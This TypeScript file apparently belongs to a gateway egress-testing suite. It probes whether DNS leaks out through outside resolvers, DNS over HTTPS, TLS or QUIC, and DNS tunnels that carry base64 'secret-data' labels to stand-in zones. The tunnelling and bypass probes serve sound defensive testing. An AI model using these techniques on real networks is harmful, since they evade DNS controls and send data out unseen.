// Probes of name resolution: other resolvers over every transport, and names as a channel. dns2 is the client, so
// that nothing of the gateway's own DNS code judges itself.

import { TCPClient, UDPClient } from 'dns2';
import { tryTcp, tryTls, tryUdp } from './attempts.ts';
import { packetTo, type Probe } from './probe.ts';

async function askUdp(server: string, name: string, type = 'A'): Promise<string> {
  const isV6 = server.includes(':');
  const ask = UDPClient({
    dns: server,
    port: 53,
    timeout: 1200,
    socketType: isV6 ? 'udp6' : 'udp4',
    retryOverTCP: false,
  });
  const { answers } = await ask(name, type);
  return `${answers.length} answers`;
}

async function askTcp(server: string, name: string): Promise<string> {
  const { answers } = await TCPClient({ dns: server, port: 53 })(name, 'A');
  return `${answers.length} answers`;
}

const asked =
  (zone: string): Probe['gotOut'] =>
  ({ questions }) =>
    questions.some((name) => name === zone || name.endsWith(`.${zone}`));
const dohPath = '/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB';
const dohRequest = (host: string) =>
  `GET ${dohPath} HTTP/1.1\r\nHost: ${host}\r\nAccept: application/dns-message\r\nConnection: close\r\n\r\n`;

export const dnsProbes: readonly Probe[] = [
  {
    id: 'dns-other-resolver',
    title: 'UDP DNS to another resolver',
    attempt: () => askUdp('8.8.8.8', 'other-resolver.doctor.example'),
    gotOut: packetTo('8.8.8.8', 17, 53),
  },
  {
    id: 'dns-other-resolver-v6',
    title: 'UDP DNS to another resolver, IPv6',
    attempt: () => askUdp('2001:4860:4860::8888', 'other-resolver6.doctor.example'),
    gotOut: packetTo('2001:4860:4860::8888', 17, 53),
  },
  {
    id: 'dns-over-tcp',
    title: 'TCP DNS to another resolver',
    attempt: () => askTcp('8.8.8.8', 'tcp-resolver.doctor.example'),
    gotOut: packetTo('8.8.8.8', 6, 53),
  },
  {
    id: 'dns-unlisted-name',
    title: 'a name that no rule allows, with data in its label',
    attempt: ({ resolver }) => askUdp(resolver, 'c2VjcmV0LWRhdGE.tunnel.example'),
    gotOut: asked('tunnel.example'),
  },
  {
    id: 'dns-unlisted-txt',
    title: 'a TXT question as a channel',
    attempt: ({ resolver }) => askUdp(resolver, 'c2VjcmV0LWRhdGE.txt-tunnel.example', 'TXT'),
    gotOut: asked('txt-tunnel.example'),
  },
  {
    id: 'doh-by-name',
    title: 'DNS over HTTPS, the resolver by its name',
    attempt: () => tryTls('8.8.8.8', 443, 'dns.google', dohRequest('dns.google')),
    gotOut: (seen, places) =>
      packetTo('8.8.8.8', 6, 443)(seen, places) || seen.requests.some(({ host }) => host === 'dns.google'),
  },
  {
    id: 'doh-by-address',
    title: 'DNS over HTTPS, the resolver by its address',
    attempt: () => tryTls('8.8.4.4', 443, null, dohRequest('8.8.4.4')),
    gotOut: packetTo('8.8.4.4', 6, 443),
  },
  {
    id: 'dot',
    title: 'DNS over TLS',
    attempt: () => tryTcp('9.9.9.9', 853, 'x'),
    gotOut: packetTo('9.9.9.9', 6, 853),
  },
  {
    id: 'doq',
    title: 'DNS over QUIC',
    attempt: () => tryUdp('9.9.9.9', 853, Buffer.alloc(1200, 0xc0)),
    gotOut: packetTo('9.9.9.9', 17, 853),
  },
];
